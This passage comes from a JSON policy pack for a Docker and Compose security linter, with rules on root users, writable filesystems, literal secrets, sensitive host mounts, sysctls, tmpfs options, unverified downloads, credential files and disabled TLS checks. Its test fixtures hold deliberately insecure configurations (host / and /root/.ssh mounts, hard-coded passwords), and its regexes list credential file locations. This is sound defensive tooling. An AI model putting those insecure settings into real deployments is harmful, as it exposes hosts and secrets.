nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-restart-policy.yaml"},{"id":"container-root-filesystem-writable","pack":"docker","title":"Container\'s root filesystem is writable","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["read_only"],"properties":{"read_only":{"const":true}}},"message":"{{name}} can write to its own root filesystem, so an attacker who gets in can drop tools, alter binaries or plant persistence in it. Set `read_only: true` and give the paths the service must write to a `tmpfs` or a volume.","rationale":"An immutable root filesystem turns many attacks from \\"download and run a tool\\" into nothing: the application\'s code and libraries cannot be replaced, and writable places are few, named and easy to review. It also makes the container\'s behaviour reproducible, since no state builds up in its writable layer. The CIS Docker Benchmark and the OWASP cheat sheet ask for a read-only root filesystem, with `tmpfs` mounts or volumes for the paths that must be writable. Informational by default, since most images need some work to run read-only.","remediation":"Make the root filesystem read-only and mount writable space only where the service writes:\\n\\n```yaml\\nservices:\\n  web:\\n    image: nginx:1.27\\n    read_only: true\\n    tmpfs:\\n      - /var/cache/nginx\\n      - /var/run\\n    volumes:\\n      - uploads:/srv/uploads\\nvolumes:\\n  uploads: {}\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.13"},{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#read_only"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":21}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  read_only: true\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n    tmpfs: [/var/cache/nginx, /var/run]\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    read_only: \\"true\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-root-filesystem-writable.yaml"},{"id":"container-runs-as-root","pack":"docker","title":"Compose service runs as root","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"user":{"not":{"pattern":{"$param":"rootUser"}}}},"if":{"required":["build"]},"then":{"required":["user"]}},"message":"{{name}} runs as root, so a flaw in it gives the attacker root inside the container, one kernel bug away from root on the host. Set `user:` to an unprivileged UID (e.g. `user: \\"10001:10001\\"`) or add a `USER` to the Dockerfile it is built from.","rationale":"Root inside a container is the same UID 0 as on the host unless user namespaces are remapped: it owns every file the container can see, including bind-mounted host paths, and it is what every container-escape exploit starts from. A service that needs no privileges should not have them. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. For a service built from a Dockerfile in this repository, the Dockerfile\'s final `USER` counts, and the finding points at both files.","remediation":"Run the service as an unprivileged user, in the Compose file or (better) in the Dockerfile so\\nthat every way of running the image gets it:\\n\\n```yaml\\nservices:\\n  api:\\n    build: ./api\\n    user: \\"10001:10001\\"\\n```\\n\\n```dockerfile\\nRUN useradd --system --uid 10001 --no-log-init app\\nUSER 10001\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A user spec that means root: the name or UID, with or without a group."}},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n  admin:\\n    image: ghcr.io/example/admin:2.0.1\\n    user: root\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    user: \\"0:0\\"\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":15},{"line":9,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build:\\n      context: ./api\\n    user: \\"10001:10001\\"\\n  web:\\n    image: nginx:1.27-alpine\\n    user: nginx\\n  cache:\\n    image: redis:7.4\\n    user: ${REDIS_UID:-999}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --user root\\n    steps:\\n      - run: docker run --rm -u 0 alpine:3.20 id\\n","expect":[]},{"file":"compose.yaml","content":"services:\\n  api:\\n    build: ./api\\n","files":{"api/Dockerfile":"FROM node:22-slim\\nUSER node\\n"},"expect":[]}],"source":"policies/docker/container-runs-as-root.yaml"},{"id":"container-secret-in-environment","pack":"docker","title":"Secret written as a literal environment value","severity":"medium","subject":"container","when":{"properties":{"origin":{"enum":["compose-service","docker-cli"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?=[A-Za-z0-9_]*$)(?![A-Za-z0-9_]*(?:^|_)(?:PUBLIC|public|Public)(?:_|$))(?![A-Za-z0-9_]*_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode)$)(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the file, so the secret is in the repository\'s history and visible to everyone who can read it, and to `docker inspect`. Pass it in instead: a Compose `secrets:` entry read from a file, or `${{{key}}}` from an untracked `.env` file.","rationale":"Anything written in a Compose file or a workflow script is stored in version control forever, copied into forks and CI logs, and readable by everyone with access to the repository. Values in `environment` are also shown by `docker inspect` and inherited by every child process. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets be kept out of images and configuration files and handed over through a secrets mechanism; Compose `secrets:` mounts them as files under `/run/secrets/`. Names are matched like BuildKit\'s SecretsUsedInArgOrEnv check. A Compose value interpolated from a `.env` file committed beside the Compose file, or from a `${VAR:-default}`, is written in the repository too and counts as a literal; a variable left to the deployment\'s environment does not.","remediation":"Keep the value out of the file. With Compose secrets (most images accept a `_FILE` variant):\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./secrets/db_password.txt   # not committed\\n```\\n\\nOr interpolate it from the environment or an untracked `.env` file:\\n`POSTGRES_PASSWORD: ${POSTGRES_PASSWORD:?set it in .env}`. In a workflow, use\\n`-e TOKEN=\\"${{ secrets.TOKEN }}\\"` or pass the name only (`-e TOKEN`).","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/compose/how-tos/use-secrets/"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: a `${VAR}` / `$VAR` interpolation or a `${{ }}` expression. Everything else (except the empty string) counts as a literal."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_USER: app\\n      POSTGRES_PASSWORD: s3cr3t-pa55\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    environment:\\n      - JWT_SECRET=change-me-please\\n      - API_KEY\\n      - STRIPE_PUBLIC_KEY=pk_live_123\\n","expect":[{"line":6,"column":7,"endLine":6,"endColumn":37},{"line":11,"column":9}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    environment:\\n      POSTGRES_PASSWORD:\\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\\n      AUTH_URL: https://id.example.com\\n      MONKEY: banana\\n      GITHUB_TOKEN:\\n    secrets: [db_password]\\nsecrets:\\n  db_password:\\n    file: ./db_password.txt\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d -e ADMIN_PASSWORD=hunter2 ghcr.io/example/app:1.4.2\\n          docker run -d -e API_TOKEN=\\"${{ secrets.API_TOKEN }}\\" -e DB_PASSWORD ghcr.io/example/app:1.4.2\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run -d -e \\"SESSION_SECRET=$SESSION_SECRET\\" ghcr.io/example/app:1.4.2\\n","expect":[]}],"source":"policies/docker/container-secret-in-environment.yaml"},{"id":"container-sensitive-host-mount","pack":"docker","title":"Sensitive host directory mounted into a container","severity":"high","subject":"container","schema":{"properties":{"volumes":{"items":{"not":{"required":["type","source"],"properties":{"type":{"const":"bind"},"source":{"pattern":{"$param":"sensitivePaths"},"not":{"pattern":{"$param":"dockerSocket"}}}},"not":{"required":["read_only","source"],"properties":{"read_only":{"const":true},"source":{"pattern":{"$param":"readOnlyAllowed"}}}}}}}}},"message":"{{name}} bind-mounts the host path `{{value.source}}`, which holds the host\'s system configuration, binaries, devices or credentials; a compromised container could read secrets from it or, when it is writable, take over the host. Mount only the specific files the service needs, read-only, or use a named volume.","rationale":"A bind mount hands the container the host\'s own files. System directories such as `/`, `/etc`, `/usr`, `/boot`, `/dev`, `/proc` and `/sys` let a process change the host\'s configuration, replace binaries that the host runs as root, reach devices or kernel settings, and read password hashes and keys; `/var/lib/docker` and `/run` hold every other container\'s data and the container runtime\'s sockets; `/root` and home directories hold SSH keys and cloud credentials. Read-only mode reduces the damage but still discloses secrets. The CIS Docker Benchmark asks that sensitive host directories not be mounted, especially read-write. `/etc/localtime` and `/etc/timezone` mounted read-only are allowed.","remediation":"Mount only the file or folder the service needs, read-only, from a path that belongs to the\\napplication, or use a named volume:\\n\\n```yaml\\nservices:\\n  proxy:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx/nginx.conf:/etc/nginx/nginx.conf:ro   # not /etc:/etc\\n      - certs:/etc/nginx/certs:ro\\nvolumes:\\n  certs: {}\\n```\\n\\nMonitoring agents that really need `/proc` or `/sys` from the host should run on a dedicated\\nhost, with the mount read-only, and with a suppression that says why.","references":[{"framework":"cis-docker","id":"1.6.0:5.6"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/"}],"params":{"sensitivePaths":"^(/|/(bin|boot|dev|etc|lib|lib32|lib64|libx32|proc|root|run|sbin|sys|usr|var/lib/docker|var/run)(/.*)?|/home(/[^/]+)?/?|~/?)$","dockerSocket":"^(/var)?/run/docker\\\\.sock/?$","readOnlyAllowed":"^/etc/(localtime|timezone)$"},"paramSchemas":{"sensitivePaths":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A host path (as written) that is a system directory or lies below one. Each directory matches itself and its subpaths only, so `/etc/nginx` matches and `/etcd-data` does not. A whole home (`~`, `/home`, `/home/<user>`) matches, but not a project folder inside one."},"dockerSocket":{"schema":{"type":"string","format":"regex","minLength":1},"description":"The Docker socket, left out here: it has its own, critical rule (container-docker-socket)."},"readOnlyAllowed":{"schema":{"type":"string","format":"regex","minLength":1},"description":"Host files that are harmless to share read-only."}},"tests":[{"file":"compose.yaml","content":"services:\\n  backup:\\n    image: restic/restic:0.17.1\\n    volumes:\\n      - /etc:/host/etc:ro\\n      - /etcd-data:/data\\n      - ./config:/config\\n      - /var/run/docker.sock:/var/run/docker.sock\\n      - /etc/localtime:/etc/localtime:ro\\n      - /:/rootfs\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":26},{"line":10,"column":9}]},{"file":"compose.yaml","content":"services:\\n  exporter:\\n    image: gcr.io/cadvisor/cadvisor:v0.49.1\\n    volumes:\\n      - type: bind\\n        source: /sys/fs/cgroup\\n        target: /sys/fs/cgroup\\n        read_only: true\\n      - type: volume\\n        source: data\\n        target: /data\\n      - type: bind\\n        source: /var/lib/docker/\\n        target: /var/lib/docker\\nvolumes:\\n  data: {}\\n","expect":[{"line":5,"column":9},{"line":12,"column":9}]},{"file":"compose.yaml","content":"x-host: &host\\n  volumes:\\n    - /root/.ssh:/root/.ssh\\nservices:\\n  deploy:\\n    <<: *host\\n    image: alpine/git:2.45.2\\n  dev:\\n    image: node:22\\n    volumes:\\n      - /home/alice/projects/site:/app\\n      - ~/.npmrc:/root/.npmrc:ro\\n      - /etc/localtime:/etc/localtime\\n","expect":[{"line":3,"column":7},{"line":13,"column":9}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    volumes:\\n      - ./nginx.conf:/etc/nginx/nginx.conf:ro\\n      - /srv/www:/usr/share/nginx/html:ro\\n      - /etcd-data:/data\\n      - /run/docker.sock:/var/run/docker.sock\\n      - /etc/timezone:/etc/timezone:ro\\n      - logs:/var/log/nginx\\nvolumes:\\n  logs: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: aquasec/trivy:0.56.2\\n      volumes:\\n        - /tmp/cache:/root/.cache\\n        - /:/host:ro\\n    services:\\n      agent:\\n        image: datadog/agent:7.57.0\\n        options: -v /proc/:/host/proc/:ro --mount type=bind,source=/sys/fs/cgroup,target=/host/sys/fs/cgroup\\n    steps:\\n      - run: trivy rootfs /host\\n","expect":[{"line":9,"column":11},{"line":13,"column":9},{"line":13,"column":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run --rm -v \\"$PWD:/src\\" -v /etc/passwd:/etc/passwd:ro alpine:3.20 true\\n","expect":[{"line":7,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  scan:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      volumes:\\n        - /tmp/cache:/cache\\n      options: -v ${{ github.workspace }}:/src\\n    steps:\\n      - run: docker run --rm -v /srv/data:/data -v /run/docker.sock:/var/run/docker.sock alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sensitive-host-mount.yaml"},{"id":"container-sysctl-weakens-isolation","pack":"docker","title":"Container sets a kernel parameter that weakens network isolation","severity":"low","subject":"container","schema":{"properties":{"sysctls":{"patternProperties":{"^net\\\\.ipv4\\\\.ip_forward$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.forwarding$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(route_localnet|accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv6\\\\.conf\\\\.[a-z0-9_.-]+\\\\.(accept_source_route|accept_redirects)$":{"not":{"const":"1"}},"^net\\\\.ipv4\\\\.conf\\\\.[a-z0-9_.-]+\\\\.rp_filter$":{"not":{"const":"0"}},"^net\\\\.ipv4\\\\.ip_unprivileged_port_start$":{"not":{"const":"0"}}}}}},"message":"{{name}} sets the kernel parameter `{{key}}={{value}}`, which weakens the network isolation of its namespace (forwarding, routing to localhost, redirects or unprivileged low ports). Remove it unless the container is a router by design, and then run it on a dedicated network.","rationale":"Docker only lets containers set namespaced sysctls, but several of those change how far the container\'s traffic can reach: IP forwarding turns it into a router between networks, `route_localnet` lets packets addressed to 127.0.0.0/8 cross interfaces (the basis of CVE-2020-8558), accepting redirects and source routes lets others steer its traffic, switching off reverse-path filtering permits spoofed sources, and `ip_unprivileged_port_start=0` lets any user bind the ports below 1024. The OWASP cheat sheet (rule 8) asks to keep the container\'s runtime restricted to what it needs.","remediation":"Remove the sysctl. A VPN gateway or router that needs forwarding belongs on a dedicated\\nnetwork with only the containers it serves:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024   # harmless tuning stays\\n```","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/run/#sysctl"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  vpn:\\n    image: qmcgaw/gluetun:v3.39\\n    sysctls:\\n      net.ipv4.ip_forward: 1\\n      net.ipv4.conf.all.route_localnet: 1\\n      net.core.somaxconn: 1024\\n  web:\\n    image: nginx:1.27\\n    sysctls:\\n      - net.ipv4.ip_unprivileged_port_start=0\\n","expect":[{"line":5,"column":7,"endLine":5,"endColumn":29},{"line":6,"column":7},{"line":10,"column":5}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    sysctls:\\n      net.core.somaxconn: 1024\\n      net.ipv4.tcp_syncookies: 1\\n      net.ipv4.conf.all.rp_filter: 1\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      router:\\n        image: ghcr.io/example/router:1.0.0\\n        options: --sysctl net.ipv4.ip_forward=1\\n    steps:\\n      - run: |\\n          docker run --rm --sysctl net.ipv4.conf.all.rp_filter=0 alpine:3.20 true\\n","expect":[{"line":8,"column":9},{"line":11,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --sysctl net.core.somaxconn=1024 alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-sysctl-weakens-isolation.yaml"},{"id":"container-tmpfs-exec","pack":"docker","title":"tmpfs mount allows executables or setuid programs","severity":"low","subject":"container","schema":{"properties":{"tmpfs":{"items":{"not":{"pattern":{"$param":"unsafeOption"}}}}}},"message":"{{name}} mounts the tmpfs `{{value}}` with `exec` or `suid`, so an attacker who can write there (usually anyone in the container) can drop a program and run it, or keep a setuid binary. Remove the option: Docker mounts tmpfs with `noexec,nosuid,nodev` by default.","rationale":"A read-only root filesystem is only as strong as its writable exceptions. Docker mounts `--tmpfs` and Compose `tmpfs:` paths with `rw,noexec,nosuid,nodev`, so files written there cannot be executed and setuid bits are ignored; the `exec` and `suid` options undo that, giving a downloaded payload a place to run from. The OWASP cheat sheet (rule 8) recommends read-only root filesystems with `noexec,nosuid` temporary mounts.","remediation":"```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:size=64m          # noexec,nosuid,nodev by default\\n```\\n\\nIf a tool must unpack and run code at run time, give it its own volume instead and keep that\\nout of the service that handles untrusted input.","references":[{"framework":"owasp-docker","id":"RULE #8"},{"framework":"url","url":"https://docs.docker.com/engine/storage/tmpfs/"}],"params":{"unsafeOption":"[:,](exec|suid)(,|$)"},"paramSchemas":{"unsafeOption":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--tmpfs` / Compose `tmpfs:` entry (`/path:opt,opt`) that turns Docker\'s default `noexec` or `nosuid` back off."}},"tests":[{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,exec,size=64m\\n      - /run\\n      - /var/cache:suid\\n","expect":[{"line":6,"column":9,"endLine":6,"endColumn":30},{"line":8,"column":9}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    read_only: true\\n    tmpfs:\\n      - /tmp:rw,noexec,nosuid,size=64m\\n      - /run\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --tmpfs /tmp:exec\\n    steps:\\n      - run: |\\n          docker run --rm --read-only --tmpfs /run:exec alpine:3.20 true\\n","expect":[{"line":7,"column":7},{"line":10,"column":11}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: docker run --rm --read-only --tmpfs /tmp:noexec,nosuid alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-tmpfs-exec.yaml"},{"id":"container-user-not-set","pack":"docker","title":"Compose service does not say which user it runs as","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}},"not":{"required":["build"]}},"schema":{"required":["user"]},"message":"{{name}} does not set `user:`, so it runs as whatever the image\'s author chose, which is root for most images. Set `user:` to an unprivileged UID the image supports (e.g. `user: \\"999:999\\"`), or confirm that the image already runs as a non-root user and suppress this with that reason.","rationale":"Without `user:` the container runs as the image\'s configured user, which this repository does not show and which is root unless the image\'s Dockerfile switched to another user. Many official images start as root (some drop privileges later in their entrypoint, some never do). Writing the user into the Compose file makes the choice visible in review and keeps it stable when the image changes. The CIS Docker Benchmark (4.1) and the OWASP cheat sheet (rule 2) ask that containers run as a non-root user. The rule is low severity because many images do set a user.","remediation":"Name the user explicitly. Most images document the UID they support:\\n\\n```yaml\\nservices:\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n  grafana:\\n    image: grafana/grafana:11.2.0\\n    user: \\"472\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.1"},{"framework":"owasp-docker","id":"RULE #2"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#user"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  cache:\\n    image: redis:7.4\\n  web:\\n    image: nginx:1.27\\n    user: \\"101:101\\"\\n  api:\\n    build: ./api\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":8}]},{"file":"compose.yaml","content":"x-user: &user\\n  user: \\"10001\\"\\nservices:\\n  worker:\\n    <<: *user\\n    image: ghcr.io/example/worker:1.4.2\\n  cache:\\n    image: redis:7.4\\n    user: \\"999:999\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      cache:\\n        image: redis:7.4\\n    steps:\\n      - run: docker run --rm alpine:3.20 id\\n","expect":[]}],"source":"policies/docker/container-user-not-set.yaml"},{"id":"dockerfile-add-url-without-checksum","pack":"docker","title":"ADD downloads a remote file without verifying its checksum","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"not":{"required":["keyword","args"],"properties":{"keyword":{"const":"ADD"},"args":{"prefixItems":[{"pattern":"^https?://"}]},"flags":{"not":{"required":["checksum"]}}}}}}}},"message":"This ADD downloads a file into stage {{name}} without `--checksum`, so whatever the server (or anyone in between) returns goes into the image unverified. Add `--checksum=sha256:<digest>` (Dockerfile syntax 1.6 or later), or download and verify it in a RUN.","rationale":"`ADD <url>` fetches the file at build time and copies it into the image as is. A compromised server, a moved release asset or a man-in-the-middle on a plain `http://` URL changes the image without any change in the repository, and the build cannot notice. `ADD --checksum` makes BuildKit verify the content against a known digest and fail the build otherwise. The CIS Docker Benchmark asks to prefer COPY over ADD (4.9) and to install only verified packages (4.11).","remediation":"Pin the download to its digest:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nADD --checksum=sha256:<64 hex digits of the release\'s published SHA-256> \\\\\\n    https://github.com/example/tool/releases/download/v1.2.0/tool-linux-amd64.tar.gz /tmp/\\n```\\n\\nFor a Git repository, ADD a tag and commit: `ADD https://github.com/example/repo.git?ref=v1.2.0&checksum=<commit> /src`.","references":[{"framework":"cis-docker","id":"1.6.0:4.9"},{"framework":"cis-docker","id":"1.6.0:4.11"},{"framework":"url","url":"https://docs.docker.com/reference/dockerfile/#add---checksum"}],"params":{},"paramSchemas":{},"tests":[{"file":"Dockerfile","content":"FROM alpine:3.20\\nADD https://example.com/tool.tar.gz /tmp/\\nADD --chown=10001 http://example.com/config.json /etc/app/config.json\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":42},{"line":3,"column":1}]},{"file":"Dockerfile","content":"# syntax=docker/dockerfile:1\\nFROM alpine:3.20\\nADD --checksum=sha256:24454f830cdd571e2c4ad5b15b2e8a7a7b07e5d6b2b9c2de1c4b9c3a5f2e8a1b https://example.com/tool.tar.gz /tmp/\\nADD rootfs.tar.gz /\\nCOPY app /app\\n","expect":[]}],"source":"policies/docker/dockerfile-add-url-without-checksum.yaml"},{"id":"dockerfile-copies-credential-file","pack":"docker","title":"Credential file copied into the image","severity":"high","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["COPY","ADD"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"credentialFile"}}}}}}}}}},"message":"Stage {{name}} copies `{{value}}`, a file that holds credentials, into the image, where every layer is readable by anyone who can pull it, even if a later step deletes the file. Keep it out of the image: mount it for the one RUN that needs it (`RUN --mount=type=secret`) and list it in `.dockerignore`.","rationale":"Files copied into an image stay in its layers for good: deleting them in a later instruction only hides them, and `docker save` or any layer-extraction tool recovers them. A `.env` file, an SSH key, an `.npmrc` with an auth token or a cloud credentials file in an image hands those credentials to everyone with pull access, and images are often pushed to registries far less protected than the secrets they contain. The CIS Docker Benchmark (4.10) and the OWASP cheat sheet (rule 12) ask that secrets never be stored in images; BuildKit secret and SSH mounts give a build step access without writing anything to a layer.","remediation":"Mount the credential only while the step that needs it runs, and keep it out of the context:\\n\\n```dockerfile\\n# syntax=docker/dockerfile:1\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci --omit=dev\\nRUN --mount=type=ssh git clone git@github.com:example/private.git\\n```\\n\\n```text\\n# .dockerignore\\n.env\\n*.key\\nid_*\\n```","references":[{"framework":"cis-docker","id":"1.6.0:4.10"},{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/building/secrets/"}],"params":{"credentialFile":"(^|/)(\\\\.env(\\\\.(local|dev|development|prod|production|staging|test))?|id_(rsa|dsa|ecdsa|ed25519)|\\\\.pypirc|\\\\.netrc|\\\\.git-credentials|\\\\.htpasswd|credentials(\\\\.json)?)$|(^|/)[^/]+\\\\.(key|p12|pfx|jks|keystore)$|(privkey|[-_.]key)\\\\.pem$|(^|/)(?=[^/]*service-account)[^/]*\\\\.json$|(^|/)\\\\.(aws|ssh|gnupg)(/|$)|(^|/)\\\\.docker/config\\\\.json$|(^|/)\\\\.kube/config$"},"paramSchemas":{"credentialFile":{"schema":{"type":"string","format":"regex","minLength":1},"description":"File names that hold credentials: dotenv files (not .env.example), SSH private keys, registry and package-index credentials, cloud credentials, private keys and key stores. A project\'s `.npmrc` usually holds only the registry and a `${NPM_TOKEN}` reference, so it is left out; a `.pem` counts only when named as a key (most are public certificates)."}},"tests":[{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json ./\\nCOPY .env /app/.env\\nCOPY deploy/id_ed25519 /root/.ssh/id_ed25519\\nADD certs/server.key /etc/ssl/private/\\n","expect":[{"line":4,"column":6,"endLine":4,"endColumn":10},{"line":4,"column":11},{"line":5,"column":6},{"line":5,"column":24},{"line":6,"column":5}]},{"file":"Dockerfile","content":"FROM node:22-slim\\nWORKDIR /app\\nCOPY package.json package-lock.json .npmrc ./\\nCOPY .env.example /app/.env.example\\nCOPY certs/ca.pem /usr/local/share/ca-certificates/ca.crt\\nCOPY .docker/php/php.ini /usr/local/etc/php/php.ini\\nRUN --mount=type=secret,id=npmrc,target=/root/.npmrc npm ci\\nCOPY . .\\n","expect":[]}],"source":"policies/docker/dockerfile-copies-credential-file.yaml"},{"id":"dockerfile-env-disables-tls-verification","pack":"docker","title":"Environment variable turns off TLS verification in the build or the image","severity":"medium","subject":"dockerfile.stage","schema":{"properties":{"instructions":{"items":{"if":{"properties":{"keyword":{"enum":["ENV","ARG","RUN"]}}},"then":{"properties":{"args":{"items":{"not":{"pattern":{"$param":"disablingVariable"}}}}}}}}}},"message":"`{{value}}` turns off TLS certificate verification for every tool that reads it in stage {{name}} (and, with ENV, in every container started from the image), so a spoofed server can feed it code or data. Remove it and install the CA certificate the tools need instead.","rationale":"`NODE_TLS_REJECT_UNAUTHORIZED=0`, `GIT_SSL_NO_VERIFY`, `PYTHONHTTPSVERIFY=0`, `NPM_CONFIG_STRICT_SSL=false` and `PIP_TRUSTED_HOST` disable certificate checks for every connection the program makes. In a RUN or ARG they open the build to man-in-the-middle package substitution; in an ENV they are baked into the image and silently weaken the application at run time too. The CIS Docker Benchmark (4.11) asks that only verified packages be installed.","remediation":"Trust the certificate instead of turning verification off:\\n\\n```dockerfile\\nCOPY corp-root-ca.crt /usr/local/share/ca-certificates/corp-root-ca.crt\\nRUN update-ca-certificates\\nENV 